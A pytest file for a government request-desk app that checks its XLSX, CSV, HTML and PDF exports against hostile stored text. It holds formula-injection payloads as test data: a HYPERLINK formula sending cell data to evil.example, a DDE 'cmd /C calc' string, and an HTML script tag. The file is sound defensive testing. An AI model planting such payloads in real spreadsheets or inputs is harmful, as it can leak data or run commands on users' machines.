"""Hostile text in exports (issue 11, items 8, 9, 10, 11, 16): every format is written and read back.

Formulas stay text (XLSX typed as strings, CSV with the OWASP quote, HTML
escaped); control characters already in the database do not block a file;
a very long description does not make the PDF impossible; rare characters
print from the bundled fallback fonts (and what no font has is marked and
listed); ID and mobile numbers typed into free text are masked.
"""

from __future__ import annotations

import csv
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import text

from request_desk.core import cases
from request_desk.core.office import settings as office_settings
from request_desk.core.office import settings_change
from request_desk.core.publication import worklist
from request_desk.core.reports import export
from request_desk.core.reports.common import Month
from request_desk.core.reports.safe_text import csv_cell, safe_cell_text
from request_desk.core.storage.db import Database
from tests import factories
from tests.factories import TODAY

OCT = Month(2026, 10)
IN_OCT = date(2026, 10, 9)  # received in the month exported
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "#N/A",
]
CONTROL = "第一行\x0b第二行\x00空\x1b[31m红\x7f\x0c尾"
CONTROL_CLEAN = "第一行\n第二行空[31m红\n尾"
FULL_ID, FULL_PHONE = "11010519491231002X", "13912345678"
RARE = "王𠮷、𪚥、김민준、Łukasz Wójcik、Ωμέγα、Жанна、😀"
NO_FONT = "\U00030000"  # CJK Extension G: no bundled font has it


def store_raw(db: Database, request_id: int, column: str, value: str) -> None:
    """Write ``value`` past every input check, as an old database or another tool could have."""
    with db.write() as s:
        s.execute(text(f"UPDATE request SET {column} = :v WHERE id = :id"), {"v": value, "id": request_id})


def store_raw_agency(db: Database, name: str) -> None:
    settings_change.update_settings(db, "supervisor", {"agency_name": "某局"}, today=TODAY)  # the settings row exists
    with db.write() as s:
        s.execute(text("UPDATE setting SET value = json_set(value, '$.agency_name', :v) WHERE key = :k"),
                  {"v": name, "k": office_settings._KEY})  # noqa: SLF001


def export_register(db: Database, tmp_path: Path, fmt: str, *,
                    full: bool = False) -> tuple[Path, export.RegisterSummary]:
    path = tmp_path / f"register-{'full' if full else 'masked'}.{fmt}"
    summary = export.run(export.export_register(db, OCT, fmt, path, full_personal_data=full,
                                                actor="supervisor" if full else "clerk",
                                                now=datetime(2026, 11, 27, 9, 0)))
    return path, summary


def xlsx_cells(path: Path) -> list:
    wb = load_workbook(path)
    return [c for c in wb["本月收到"].iter_rows(min_row=4) for c in c]


def csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def pdf_text(path: Path) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(path).pages)


# -- item 8: formulas stay text ---------------------------------------------------------------


@pytest.fixture
def formula_cases(db: Database) -> list[int]:
    ids = [factories.register(db, IN_OCT, description=f, applicant_name=f"申请人{i}") for i, f in enumerate(FORMULAS)]
    for rid, f in zip(ids, FORMULAS, strict=True):
        store_raw(db, rid, "note", f)  # exactly as typed, past any input normalisation
        store_raw(db, rid, "description", f)
    return ids


def test_xlsx_register_writes_formula_shaped_text_as_text(db: Database, tmp_path: Path,
                                                          formula_cases: list[int]) -> None:
    path, _ = export_register(db, tmp_path, "xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere in the workbook
    assert not any('t="e"' in s for s in sheets)  # "#N/A" is not an error value either
    cells = xlsx_cells(path)
    by_value = {c.value: c for c in cells if c.value in FORMULAS}
    assert set(by_value) == set(FORMULAS)  # each text comes back exactly
    assert all(c.data_type == "s" for c in by_value.values())
    assert all(c.quotePrefix for v, c in by_value.items() if v[0] in "=+-@\t")
    # What the program writes stays typed: 序号 a number, 收到日期 a date.
    wb = load_workbook(path)
    first = next(wb["本月收到"].iter_rows(min_row=4, max_row=4))
    assert first[0].value == 1 and isinstance(first[2].value, datetime)


def test_csv_register_prefixes_formula_starts_with_a_quote(db: Database, tmp_path: Path,
                                                           formula_cases: list[int]) -> None:
    path, _ = export_register(db, tmp_path, "csv")
    rows = csv_rows(path)
    header = rows[0]
    description, note = header.index("申请内容"), header.index("备注")
    got = [(r[description], r[note]) for r in rows[1:] if r[0] == "本月收到"]
    expected = ["'" + f if f[0] in "=+-@\t" else f for f in FORMULAS]
    assert sorted(d for d, _ in got) == sorted(expected)
    assert sorted(n for _, n in got) == sorted(expected)
    assert all(r[1] == str(i) for i, r in enumerate((r for r in rows[1:] if r[0] == "本月收到"), 1))  # numbers bare
    assert csv_cell("\r=1") == "'\r=1" and csv_cell(-3) == "-3" and csv_cell(date(2026, 1, 2)) == "2026-01-02"


def test_annual_html_and_xlsx_keep_a_hostile_agency_name_as_text(db: Database, tmp_path: Path) -> None:
    agency = '=HYPERLINK("http://x")<script>alert(1)</script>\x0b\x00局'
    store_raw_agency(db, agency)
    html_path, xlsx_path = tmp_path / "annual.html", tmp_path / "annual.xlsx"
    export.run(export.export_annual(db, 2026, "html", html_path))
    export.run(export.export_annual(db, 2026, "xlsx", xlsx_path))
    page = html_path.read_text("utf-8")
    assert "<script>" not in page and "&lt;script&gt;" in page and "\x00" not in page and "\x0b" not in page
    title = load_workbook(xlsx_path)["申请情况"]["A1"]
    assert title.data_type == "s" and title.value.startswith('=HYPERLINK("http://x")')


def test_publication_worklist_xlsx_keeps_formula_text_as_text(db: Database, tmp_path: Path) -> None:
    rid = factories.register(db, IN_OCT, description="关于=SUM(1,2)的信息")
    cases.reply(db, rid, "clerk", outcome_code="1", on_date=date(2026, 10, 20), today=TODAY)
    worklist.raise_flag(db, rid, "clerk", reason="=HYPERLINK(\"http://x\",\"点\")")
    path = worklist.export_xlsx(db, tmp_path / "worklist.xlsx")
    cells = [c for row in load_workbook(path).active.iter_rows(min_row=2) for c in row]
    reason = next(c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK"))
    assert reason.data_type == "s" and reason.value == "=HYPERLINK(\"http://x\",\"点\")"


# -- item 9: control characters already stored ----------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "pdf"])
def test_control_characters_in_the_database_do_not_block_an_export(db: Database, tmp_path: Path, fmt: str) -> None:
    rid = factories.register(db, IN_OCT)
    for column in ("description", "applicant_name", "note"):
        store_raw(db, rid, column, CONTROL)
    path, summary = export_register(db, tmp_path, fmt)
    assert summary.counts["received"] == 1
    if fmt == "xlsx":
        values = [c.value for c in xlsx_cells(path)]
        assert values.count(CONTROL_CLEAN) == 3
    elif fmt == "csv":
        row = next(r for r in csv_rows(path)[1:] if r[0] == "本月收到")
        assert row.count(CONTROL_CLEAN) == 3
    else:
        content = pdf_text(path)
        assert "第一行" in content and "红" in content and "\x1b" not in content
    assert safe_cell_text("\ud800a\ufffe") == "a"  # lone surrogates and non-characters too


# -- item 10: very long cells in the PDF ------------------------------------------------------


def test_a_very_long_description_is_cut_in_the_pdf_and_kept_whole_elsewhere(db: Database, tmp_path: Path) -> None:
    long_text = ("关于本市老旧小区改造项目资金使用情况的说明。" * 120)[:2500]
    rid = factories.register(db, IN_OCT)
    store_raw(db, rid, "description", long_text)  # longer than the form allows: imported before the limit
    store_raw(db, rid, "note", "备注" * 800)
    path, _ = export_register(db, tmp_path, "pdf")
    content = pdf_text(path).replace("\n", "")
    assert content.count("（全文见登记表）") == 4  # two cells, in 本月收到 and 月末未办结
    assert "关于本市老旧小区改造项目" in content
    xlsx, _ = export_register(db, tmp_path, "xlsx")
    assert long_text in [c.value for c in xlsx_cells(xlsx)]


# -- item 11: rare characters in report PDFs --------------------------------------------------


def test_register_pdf_prints_rare_characters_from_the_fallback_fonts(db: Database, tmp_path: Path) -> None:
    rid = factories.register(db, IN_OCT, applicant_name="王𠮷", description="申请人" + RARE)
    store_raw(db, rid, "note", f"罕见字{NO_FONT}待核")
    path, summary = export_register(db, tmp_path, "pdf")
    content = pdf_text(path).replace("\n", "")
    for word in ("王𠮷", "𪚥", "김민준", "Łukasz", "Ωμέγα", "Жанна", "😀"):
        assert word in content, word
    fonts = {str(f["/BaseFont"]) for page in PdfReader(path).pages
             for f in page["/Resources"]["/Font"].values()}
    for family in ("HanaMinB", "NotoSansKR", "NotoSerif-Regular", "NotoEmoji"):
        assert any(family in f for f in fonts), (family, fonts)
    # No font has U+30000: it is printed as 〓, and a note under the table says so.
    assert "罕见字〓待核" in content and "U+30000" in content and "全文" not in content
    assert summary.missing_glyphs == (NO_FONT,)


def test_annual_pdf_prints_a_rare_agency_name(db: Database, tmp_path: Path) -> None:
    store_raw_agency(db, "𠮷𪚥县人民政府办公室")
    path = tmp_path / "annual.pdf"
    export.run(export.export_annual(db, 2026, "pdf", path))
    assert "𠮷𪚥县人民政府办公室" in pdf_text(path)


# -- item 16: personal numbers in free text ---------------------------------------------------


FREE_TEXT = f"本人身份证号{FULL_ID}，手机 139-1234-5678，请来电{FULL_PHONE}"


@pytest.fixture
def numbers_in_free_text(db: Database) -> int:
    rid = factories.register(db, IN_OCT, description=FREE_TEXT)
    store_raw(db, rid, "note", f"申请人来电称新手机+86 {FULL_PHONE}，证件{FULL_ID}")
    return rid


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "pdf"])
def test_masked_exports_mask_numbers_typed_into_description_and_notes(
        db: Database, tmp_path: Path, fmt: str, numbers_in_free_text: int) -> None:
    masked, _ = export_register(db, tmp_path, fmt)
    full, _ = export_register(db, tmp_path, fmt, full=True)
    if fmt == "xlsx":
        masked_text = " ".join(str(c.value) for c in xlsx_cells(masked))
        full_text = " ".join(str(c.value) for c in xlsx_cells(full))
    elif fmt == "csv":
        masked_text, full_text = masked.read_text("utf-8-sig"), full.read_text("utf-8-sig")
    else:
        masked_text, full_text = pdf_text(masked).replace("\n", ""), pdf_text(full).replace("\n", "")
    for number in (FULL_ID, FULL_PHONE, "139-1234-5678", "1234-5678"):
        assert number not in masked_text, number
    assert "身份证号110105********002X" in masked_text and "请来电139****5678" in masked_text
    assert "证件110105********002X" in masked_text
    assert FULL_ID in full_text and FULL_PHONE in full_text and "139-1234-5678" in full_text


# -- item 9: one control-character rule, input and export ----------------------------------


def test_the_export_rule_is_the_input_rule() -> None:
    """What an export writes of stored text is what the input side would have stored (CR kept as stored)."""
    from request_desk.core.text import clean_text

    differ = [hex(c) for c in range(0x110000) if c != 0x0D and safe_cell_text(chr(c)) != clean_text(chr(c))]
    assert differ == []
    assert safe_cell_text("a\u2028b\x85c\x1ed\u2029e") == "a\nb\nc\nd\ne"  # line breaks, not lost or kept raw
    assert safe_cell_text("a\r\nb\rc\x00") == "a\r\nb\rc"


def test_stored_unicode_line_separators_export_as_line_breaks(db: Database, tmp_path: Path) -> None:
    rid = factories.register(db, IN_OCT)
    store_raw(db, rid, "description", "第一段\u2028第二段\x1e第三段")  # stored past the input rule
    path, _ = export_register(db, tmp_path, "xlsx")
    assert "第一段\n第二段\n第三段" in [c.value for c in xlsx_cells(path)]
